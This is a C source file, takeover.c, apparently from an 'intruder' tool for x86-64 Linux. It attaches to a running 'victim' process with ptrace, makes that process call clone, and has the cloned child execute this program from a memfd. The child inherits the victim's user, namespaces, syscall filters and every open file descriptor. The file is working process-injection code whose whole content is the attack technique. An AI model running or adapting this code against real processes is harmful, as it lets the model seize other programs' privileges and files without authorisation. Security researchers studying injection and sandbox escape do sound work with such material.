/*
 * takeover.c: lets another process execute this program
 *
 * SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * The process forks, and its child executes this program, as if a bug had given
 * it away: the system calls are made by the process itself, at an instruction
 * that every process has (in the vdso), with registers that ptrace(2) sets.  So
 * the child has what the process has: user, namespaces, root, limits, filters of
 * system calls and, since nothing is closed, all of its files.  The process goes
 * on afterwards where it was.  For x86-64.
 */

#define _GNU_SOURCE

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "intruder.h"
#include "takeover.h"

#define ROOM 65536 /* in the child, for what calls point to */
#define ARGS_MAX 256

static uint64_t instruction; /* the address of a system call */
static uint64_t room;


static int
openProc(pid_t pid,
         const char *name,
         int flags)
{
    char path[64];
    int fd;

    snprintf(path, sizeof(path), "/proc/%d/%s", (int) pid, name);
    if ((fd = open(path, flags | O_CLOEXEC)) < 0)
        die(path);

    return fd;
}


/* Two bytes anywhere in the vdso are good enough. */
static void
findInstruction(pid_t pid)
{
    FILE *maps = fdopen(openProc(pid, "maps", O_RDONLY), "r");
    int mem = openProc(pid, "mem", O_RDONLY);
    char line[512];
    char code[2 * 4096];
    unsigned long first = 0;
    void *found = NULL;
    ssize_t len;

    while (fgets(line, sizeof(line), maps)) {
        if (strstr(line, "[vdso]"))
            sscanf(line, "%lx", &first);
    }

    if ((len = pread(mem, code, sizeof(code), first)) > 0)
        found = memmem(code, len, "\x0f\x05", 2);
    if (!found)
        die("a system call in the vdso");

    instruction = first + ((char *) found - code);
    fclose(maps);
    close(mem);
}


/* One instruction of the process @pid, which may be stopped on the way. */
static int
step(pid_t pid)
{
    int status;

    if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
        waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
        die("step");

    return status >> 16;
}


/* Lets @pid, which is stopped, make a system call; returns what that returned. */
static long
call(pid_t pid,
     long nr,
     uint64_t a,
     uint64_t b,
     uint64_t c,
     uint64_t d,
     uint64_t e)
{
    struct user_regs_struct regs;

    if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
        die("registers");

    regs.rip = instruction;
    regs.rax = nr;
    regs.orig_rax = -1; /* what it was waiting in is not started again */
    regs.rdi = a;
    regs.rsi = b;
    regs.rdx = c;
    regs.r10 = d;
    regs.r8 = e;
    regs.r9 = 0;

    if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0)
        die("registers");

    /* the first stop is before a fork returns */
    if (step(pid) == PTRACE_EVENT_FORK)
        step(pid);

    if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
        die("registers");

    return regs.rax;
}


static long
callOrDie(pid_t pid,
          const char *what,
          long nr,
          uint64_t a,
          uint64_t b,
          uint64_t c,
          uint64_t d,
          uint64_t e)
{
    long rc = call(pid, nr, a, b, c, d, e);

    if (rc < 0) {
        errno = -rc;
        kill(pid, SIGKILL);
        die(what);
    }

    return rc;
}


/* Returns the child, stopped.  The victim waits for no child, so that it stays a zombie
 * until the victim ends. */
static pid_t
forkVictim(pid_t victim)
{
    struct user_regs_struct saved;
    pid_t child;
    int status;

    if (ptrace(PTRACE_SEIZE, victim, 0, PTRACE_O_TRACEFORK) < 0 ||
        ptrace(PTRACE_INTERRUPT, victim, 0, 0) < 0 ||
        waitpid(victim, &status, __WALL) != victim ||
        ptrace(PTRACE_GETREGS, victim, 0, &saved) < 0)
        die("trace");

    findInstruction(victim);
    child = call(victim, SYS_clone, SIGCHLD, 0, 0, 0, 0);

    if (ptrace(PTRACE_SETREGS, victim, 0, &saved) < 0 ||
        ptrace(PTRACE_DETACH, victim, 0, 0) < 0)
        die("let go");

    if (child < 0 || waitpid(child, &status, __WALL) != child)
        die("fork");

    return child;
}


static void
put(pid_t child,
    const void *data,
    size_t len,
    size_t offset)
{
    int mem = openProc(child, "mem", O_RDWR);

    if (offset + len > ROOM || pwrite(mem, data, len, room + offset) != (ssize_t) len)
        die("memory");
    close(mem);
}


/* Returns the number of a file of the child that has this program in it. */
static long
loadProgram(pid_t child)
{
    char path[64];
    char buf[65536];
    int from = openProc(getpid(), "exe", O_RDONLY);
    ssize_t len;
    long fd;
    int to;

    put(child, "takeover", sizeof("takeover"), 0);
    fd = callOrDie(child, "memfd_create", SYS_memfd_create, room, 0, 0, 0, 0);
    snprintf(path, sizeof(path), "fd/%ld", fd);
    to = openProc(child, path, O_WRONLY);
    while ((len = read(from, buf, sizeof(buf))) > 0) {
        if (write(to, buf, len) != len)
            die("program");
    }

    close(from);
    close(to);
    return fd;
}


/* Returns the end of a pipe whose other end is the child's standard output. */
static int
openOutput(pid_t child)
{
    int pidfd = syscall(SYS_pidfd_open, child, 0);
    int mem = openProc(child, "mem", O_RDONLY);
    int fds[2];
    int fd;

    callOrDie(child, "pipe2", SYS_pipe2, room, O_CLOEXEC, 0, 0, 0);
    if (pread(mem, fds, sizeof(fds), room) != sizeof(fds) ||
        (fd = syscall(SYS_pidfd_getfd, pidfd, fds[0], 0)) < 0)
        die("output");

    callOrDie(child, "dup2", SYS_dup2, fds[1], STDOUT_FILENO, 0, 0, 0);
    callOrDie(child, "close", SYS_close, fds[0], 0, 0, 0, 0);
    callOrDie(child, "close", SYS_close, fds[1], 0, 0, 0, 0);
    close(pidfd);
    close(mem);
    return fd;
}


/* The child has no /proc: it is told what its files are, by "NUMBER=TARGET".
 * None of them is closed when it executes the program. */
static size_t
listFiles(pid_t child,
          char **args)
{
    int dirfd = openProc(child, "fd", O_RDONLY | O_DIRECTORY);
    DIR *dir = fdopendir(dirfd);
    struct dirent *entry;
    char link[PATH_MAX];
    size_t n = 0;

    while ((entry = readdir(dir))) {
        ssize_t len = readlinkat(dirfd, entry->d_name, link, sizeof(link) - 1);

        if (len <= 0 || n == ARGS_MAX / 2)
            continue;

        link[len] = '\0';
        callOrDie(child, "fcntl", SYS_fcntl, atoi(entry->d_name), F_SETFD, 0, 0, 0);
        if (asprintf(&args[n++], "%s=%s", entry->d_name, link) < 0)
            die("memory");
    }

    closedir(dir);
    return n;
}


/* Puts the arguments where the child finds them; returns where. */
static uint64_t
putArgs(pid_t child,
        char **args,
        size_t nargs)
{
    uint64_t pointers[ARGS_MAX + 1] = { 0 };
    size_t offset = sizeof(pointers) + 16;
    size_t i;

    for (i = 0; i < nargs; i++) {
        pointers[i] = room + offset;
        put(child, args[i], strlen(args[i]) + 1, offset);
        offset += strlen(args[i]) + 1;
    }

    put(child, pointers, sizeof(pointers), 0);
    return room;
}


/**
 * takeOver:
 * @victim: a process, which must not be taken over by two at once
 * @args: what the program is told, "--" and a list of the process's files, as
 *        "NUMBER=TARGET", follow
 *
 * Returns a file from which the program's output can be read.
 */
int
takeOver(pid_t victim,
         char **args)
{
    char *all[ARGS_MAX] = { NULL };
    pid_t child = forkVictim(victim);
    uint64_t empty = ROOM - 8;
    uint64_t argv;
    size_t n = 0;
    long program;
    int output;

    room = callOrDie(child, "mmap", SYS_mmap, 0, ROOM, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS, -1);
    output = openOutput(child);

    while (args[n] && n < ARGS_MAX / 2 - 1) {
        all[n] = args[n];
        n++;
    }
    all[n++] = (char *) "--";
    n += listFiles(child, all + n);

    program = loadProgram(child);
    argv = putArgs(child, all, n);
    callOrDie(child, "execveat", SYS_execveat, program, room + empty, argv,
              room + empty, AT_EMPTY_PATH);

    if (ptrace(PTRACE_DETACH, child, 0, 0) < 0)
        die("let go");

    return output;
}
